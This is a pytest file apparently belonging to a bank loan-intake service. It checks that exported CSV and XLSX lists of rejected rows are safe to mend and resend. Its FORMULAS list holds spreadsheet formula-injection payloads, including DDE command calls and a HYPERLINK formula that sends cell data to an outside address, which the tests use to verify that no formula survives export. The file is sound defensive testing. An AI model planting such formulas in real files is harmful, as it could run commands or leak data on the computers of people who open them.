"""Lists of rows as files that people open, mend and send back; nothing in them runs."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

import pytest
import python_calamine
from hypothesis import given, settings
from hypothesis import strategies as st

from finance_hub.kernel import sheets
from loans import formats
from loans.intake import sheet
from tests.cast import Api
from tests.loans.bank import OTHER_FIRM, URL, Row, Sent, disbursement, repayment, send, send_content

Speak = Callable[[str], Api]
OUTCOMES = ("rejected", "accepted", "unchanged", "warning")
#: Names that a spreadsheet would run, or that would call for a program.
FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM", " =1+1",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"x")', "=cmd|' /C calc'!A0", "=DDE(\"cmd\",\"/C calc\",\"x\")", "'=1+1",
    '=IMPORTXML("http://192.0.2.1","//a")', "=1+1\nsecond line",
]  # fmt: skip


def fetch(api: Api, batch: str, *, format: str, outcome: str = "rejected") -> bytes:
    answer = api.get(f"{URL}/{batch}/results?outcome={outcome}&format={format}")
    assert answer.status_code == 200, answer.content
    return b"".join(answer.streaming_content)


def table(content: bytes) -> list[list[Any]]:
    book = python_calamine.load_workbook(io.BytesIO(content))
    assert len(book.sheet_names) == 1
    return book.get_sheet_by_index(0).to_python()


def sheet_xml(content: bytes) -> str:
    return zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()


def rejected(api: Api, *names: str, format: str = "xlsx") -> Sent:
    """A batch whose rows are all refused for their amounts, with these names of firms."""
    rows = [
        disbursement(f"E-{at}", "x", contract_no=f"HT-{at}", firm_name=name) for at, name in enumerate(names)
    ]
    return send(api, rows, format=format)


@pytest.mark.parametrize("sent_as", ["ndjson", "csv", "xlsx"])
def test_no_name_becomes_a_formula_in_a_workbook(api: Speak, sent_as: str) -> None:
    bank = api("bank_a")
    batch = rejected(bank, *FORMULAS, format=sent_as).batch["id"]
    content = fetch(bank, batch, format="xlsx")
    header, *rows = table(content)
    assert [row[header.index("firm_name")] for row in rows] == FORMULAS
    written = sheet_xml(content)
    assert not re.search(r"<(\w+:)?f[ >/]", written)
    assert set(re.findall(r' t="(\w+)"', written)) == {"inlineStr"}
    assert "<v>" not in written


@pytest.mark.parametrize("sent_as", ["ndjson", "csv", "xlsx"])
def test_no_name_begins_a_formula_in_csv(api: Speak, sent_as: str) -> None:
    bank = api("bank_a")
    batch = rejected(bank, *FORMULAS, format=sent_as).batch["id"]
    text = fetch(bank, batch, format="csv").decode("utf-8-sig")
    header, *rows = csv.reader(io.StringIO(text, newline=""))
    names = [row[header.index("firm_name")] for row in rows]
    assert [name.removeprefix("'") for name in names[:-3]] == FORMULAS[:-3]
    for name in names:
        assert not re.match(r"\s*[=+\-@＝＋－＠]", name) or re.fullmatch(r"-\d+", name)


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_mended_lists_go_back_with_the_names_they_came_with(api: Speak, format: str) -> None:
    """Leading blanks and all; only control characters are faults that nobody mended here."""
    bank = api("bank_a")
    names = [name for name in FORMULAS if not re.search(r"[\t\r\n]", name) and not name.startswith("'")]
    content = fetch(bank, rejected(bank, *names).batch["id"], format=format)
    mended, declared = mend(content, format, amount="5.00")
    again = send_content(bank, mended, format=format, control_totals=declared)
    assert (again.error, again.result["accepted"]) == (None, len(names))
    listed = bank.get("/contracts?limit=100").json()["data"]
    assert len(listed) == len(names)


def mend(content: bytes, format: str, **changes: str) -> tuple[bytes, Row]:
    """The list with some columns filled anew, and its honest totals (of disbursements alone)."""
    from tests.loans import workbooks

    if format == "csv":
        header, *rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    else:
        header, *rows = table(content)
    for row in rows:
        for name, value in changes.items():
            row[header.index(name)] = value
    totals = {"rows": len(rows), "disbursed": f"{len(rows) * float(changes['amount']):.2f}", "repaid": "0.00"}
    if format == "xlsx":
        return workbooks.of_cells([header, *rows]), totals
    text = io.StringIO()
    csv.writer(text).writerows([header, *rows])
    return text.getvalue().encode(), totals


def test_the_rejected_workbook_has_the_banks_own_columns_and_what_is_wrong(api: Speak) -> None:
    bank = api("bank_a")
    rows = [
        disbursement(),
        disbursement("E-2", "12.345", contract_no="HT-2", uscc="x"),
        repayment("E-3", "5000.00"),
    ]
    sent = send(bank, rows, format="xlsx")
    header, *listed = table(fetch(bank, sent.batch["id"], format="xlsx"))
    assert header == [*formats.csv_columns("flow"), *formats.REPORT_COLUMNS]
    assert [row[header.index("amount")] for row in listed] == ["12.345", "5000.00"]
    assert [row[header.index("row_number")] for row in listed] == ["2", "3"]
    assert listed[0][header.index("error_codes")] == "amount-scale; uscc-length"
    assert listed[0][header.index("error_pointers")] == "#/amount; #/uscc"
    assert listed[1][header.index("error_messages")].endswith("还款 5000.00 大于余额 1000.00")
    assert {type(cell) for row in listed for cell in row} == {str}


def test_the_workbook_is_pleasant_to_mend(api: Speak) -> None:
    """The header stays in sight, columns are as wide as what they hold, and typed-over cells stay text."""
    bank = api("bank_a")
    content = fetch(bank, rejected(bank, "a").batch["id"], format="xlsx")
    written = sheet_xml(content)
    assert 'ySplit="1"' in written
    assert 'state="frozen"' in written
    widths = [float(width) for width in re.findall(r'<col [^>]*width="([\d.]+)"', written)]
    assert min(widths) >= 6
    assert max(widths) <= 70
    styles = zipfile.ZipFile(io.BytesIO(content)).read("xl/styles.xml").decode()
    assert re.search(r'<xf numFmtId="49"[^>]*quotePrefix="1"', styles)


def test_the_rejected_workbook_is_accepted_once_it_is_mended(api: Speak) -> None:
    """Amounts stay the text they were, so what was not touched goes back unchanged."""
    bank = api("bank_a")
    rows = [disbursement("E-1", "100.10", uscc="x"), disbursement("E-2", "7", contract_no="HT-2", uscc="y")]
    sent = send(bank, rows, format="xlsx")
    assert sent.result["rejected"] == 2
    header, *listed = table(fetch(bank, sent.batch["id"], format="xlsx"))
    for row in listed:
        row[header.index("uscc")] = OTHER_FIRM
    from tests.loans import workbooks

    declared = {"rows": 2, "disbursed": "107.10", "repaid": "0.00"}
    again = send_content(bank, workbooks.of_cells([header, *listed]), format="xlsx", control_totals=declared)
    assert (again.state, again.result["accepted"], again.rows()) == ("applied", 2, [])
    assert bank.get("/contracts/HT-1").json()["balance"] == "100.10"


def test_the_list_may_go_back_untouched_but_for_its_faults(api: Speak) -> None:
    """The very file that was given out is one that is taken in: every part of it is harmless."""
    bank = api("bank_a")
    batch = send(bank, [repayment()], format="xlsx").batch["id"]
    content = fetch(bank, batch, format="xlsx")
    assert send(bank, [disbursement()]).result["accepted"] == 1
    declared = {"rows": 1, "disbursed": "0.00", "repaid": "300.00"}
    again = send_content(bank, content, format="xlsx", control_totals=declared)
    assert (again.state, again.result["accepted"]) == ("applied", 1)


@pytest.mark.parametrize("outcome", OUTCOMES)
def test_an_empty_list_is_a_workbook_with_a_header(api: Speak, outcome: str) -> None:
    bank = api("bank_a")
    batch = send(bank, []).batch["id"]
    [header] = table(fetch(bank, batch, format="xlsx", outcome=outcome))
    assert "error_codes" in header


def test_accepted_rows_come_as_a_workbook_too(api: Speak) -> None:
    bank = api("bank_a")
    sent = send(bank, [disbursement(), repayment()])
    header, *rows = table(fetch(bank, sent.batch["id"], format="xlsx", outcome="accepted"))
    assert [dict(zip(header, row, strict=True))["client_row_id"] for row in rows] == ["row-E-1", "row-E-2"]


def test_what_was_null_in_json_is_an_empty_cell(api: Speak) -> None:
    bank = api("bank_a")
    sent = send(bank, [disbursement(amount="x", branch_code=None, lpr_spread_bp=None)])
    for format in ("csv", "xlsx"):
        assert b"null" not in fetch(bank, sent.batch["id"], format=format).replace(b"&null", b"")
    header, row = table(fetch(bank, sent.batch["id"], format="xlsx"))
    assert row[header.index("branch_code")] == ""


def test_a_text_longer_than_a_cell_is_cut_and_says_so(api: Speak) -> None:
    bank = api("bank_a")
    batch = send(bank, [disbursement(amount="x", firm_name="名" * 40_000)]).batch["id"]
    header, row = table(fetch(bank, batch, format="xlsx"))
    name = row[header.index("firm_name")]
    assert (len(name), name[-2:]) == (sheet.MOST_CHARACTERS, "名…")


def test_more_rows_than_a_sheet_holds_are_refused_by_name(
    api: Speak, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert sheet.MOST_ROWS == 2**20 - 1
    bank = api("bank_a")
    batch = rejected(bank, "a", "b").batch["id"]
    monkeypatch.setattr(sheet, "MOST_ROWS", 1)
    answer = bank.get(f"{URL}/{batch}/results?outcome=rejected&format=xlsx")
    assert (answer.status_code, answer.json()["code"]) == (422, "too-many-rows-for-a-workbook")
    assert "csv" in answer.json()["detail"]
    assert bank.get(f"{URL}/{batch}/results?outcome=rejected&format=csv").status_code == 200


def test_the_answer_names_its_file_and_leaves_none_behind(api: Speak, settings: Any) -> None:
    bank = api("bank_a")
    batch = rejected(bank, "a").batch["id"]
    before = sorted(settings.FILES_DIR.rglob("*"))
    answer = bank.get(f"{URL}/{batch}/results?outcome=rejected&format=xlsx")
    content = b"".join(answer.streaming_content)
    assert answer["Content-Type"] == sheets.MEDIA_TYPE
    assert answer["Content-Disposition"] == f'attachment; filename="{batch}-rejected.xlsx"'
    assert int(answer["Content-Length"]) == len(content)
    assert sorted(settings.FILES_DIR.rglob("*")) == before


def test_a_foreign_list_is_not_found_in_any_format(api: Speak) -> None:
    batch = rejected(api("bank_a"), "a").batch["id"]
    for format in ("ndjson", "csv", "xlsx"):
        answer = api("bank_b").get(f"{URL}/{batch}/results?outcome=rejected&format={format}")
        assert (answer.status_code, answer.json()["code"]) == (404, "not-found")


#: Everything that a cell holds; calamine leaves the two that are no characters as they are written.
TEXTS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\ufffe\uffff"), max_size=40)


@given(st.lists(st.lists(TEXTS, min_size=2, max_size=2), max_size=5))
@settings(max_examples=50)
def test_every_text_is_read_back_as_it_was(rows: list[list[str]]) -> None:
    with sheet.write(
        ["a", "b"], [rows], name="x", widths={}, created=datetime(2026, 10, 1, tzinfo=UTC)
    ) as file:
        content = file.read()
    read = table(content)[1:]
    padded = [[*row, *[""] * (2 - len(row))] for row in read]
    assert padded + [["", ""]] * (len(rows) - len(read)) == rows
    assert not re.search(r"<f[ >/]", sheet_xml(content))
